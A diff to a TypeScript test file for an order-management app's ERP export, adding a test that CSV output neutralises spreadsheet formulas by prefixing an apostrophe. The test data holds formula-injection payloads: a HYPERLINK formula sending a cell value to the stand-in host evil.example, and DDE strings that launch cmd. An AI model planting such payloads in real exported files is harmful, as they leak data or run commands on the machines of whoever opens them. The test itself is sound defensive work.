@@ -3,6 +3,7 @@ import fs from 'node:fs';
 import http from 'node:http';
 import type { AddressInfo } from 'node:net';
 import path from 'node:path';
+import { parse } from 'csv-parse/sync';
 import type { FastifyInstance } from 'fastify';
 import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
 import { buildApp } from '../../../server/app.js';
@@ -47,10 +48,13 @@ afterAll(() => new Promise<void>((r) => erp.close(() => r())));
 const conErp = (erpCfg: ErpConfig | undefined): Promise<FastifyInstance> =>
   buildApp({ ...t().config, erp: erpCfg }, { logger: false });
 
-async function ordina(app: FastifyInstance, quantita = 3): Promise<number> {
+async function ordina(app: FastifyInstance, quantita = 3, altro: { nome?: string; note?: string; codice?: string } = {}): Promise<number> {
   const res = await app.inject({
     method: 'POST', url: '/api/ordini/create', headers: { cookie },
-    payload: { azienda_codice: '0001', cliente_codice: '000100', utente_codice: utenteCodice, carrelloItems: [{ codice_prodotto: 'A1', quantita }] },
+    payload: {
+      azienda_codice: '0001', cliente_codice: '000100', utente_codice: utenteCodice, nome: altro.nome, note: altro.note,
+      carrelloItems: [{ codice_prodotto: altro.codice ?? 'A1', quantita }],
+    },
   });
   expect(res.json()).toMatchObject({ status: 0 });
   return res.json().ordine_id as number;
@@ -114,6 +118,29 @@ describe('orders out to the ERP', () => {
       expect(head).toBe('ordine_id;data;azienda_codice;cliente_codice;utente_codice;nome_ordine;note;riga;codice_prodotto;descrizione;quantita;qt_in_consegna;qt_in_arrivo;prezzo_unitario;importo');
       expect(riga!.split(';').slice(7)).toEqual(['1', 'A1', 'Vite àèì', '2', '2', '0', '1,250', '2,500']);
       expect(fs.readdirSync(dir).filter((f) => f.endsWith('.tmp'))).toEqual([]);
+    } finally {
+      await app.close();
+    }
+  });
+
+  it('the CSV file neutralises text a spreadsheet would run as a formula; numbers stay numbers', async () => {
+    const dir = path.join(t().config.dataDir, 'erp-export-formule');
+    const nome = '=HYPERLINK("http://evil.example/?o="&B2;"Apri")';
+    const note = "@SUM(1+1)*cmd|' /C calc'!A0";
+    const descrizione = "-2+3+cmd|' /C calc'!A0";
+    await createProdotto(t().database.db, { codiceProdotto: 'F1', descrizione1: descrizione, prezzi: { 1: '1.500' }, disponibilita: 100 });
+    const app = await conErp({ exportDir: dir });
+    try {
+      const id = await ordina(app, 2, { nome, note, codice: 'F1' });
+      await app.deps.lavori.esegui();
+      await vi.waitFor(async () => expect((await stato(id)).erp_stato).toBe('inviato'), { timeout: 10_000 });
+      // Read as a spreadsheet reads it: ';', quotes, BOM.
+      const [testa, riga] = parse(fs.readFileSync(path.join(dir, `ordine-${id}.csv`)), { delimiter: ';', bom: true }) as string[][];
+      const campo = (n: string) => riga![testa!.indexOf(n)];
+      expect([campo('nome_ordine'), campo('note'), campo('descrizione')]).toEqual([`'${nome}`, `'${note}`, `'${descrizione}`]);
+      expect([campo('quantita'), campo('prezzo_unitario'), campo('importo')]).toEqual(['2', '1,500', '3,000']);
+      // The JSON file is no spreadsheet: the texts as the customer wrote them.
+      expect(JSON.parse(fs.readFileSync(path.join(dir, `ordine-${id}.json`), 'utf8'))).toMatchObject({ nome, note, righe: [{ descrizione }] });
     } finally {
       await app.close();
     }
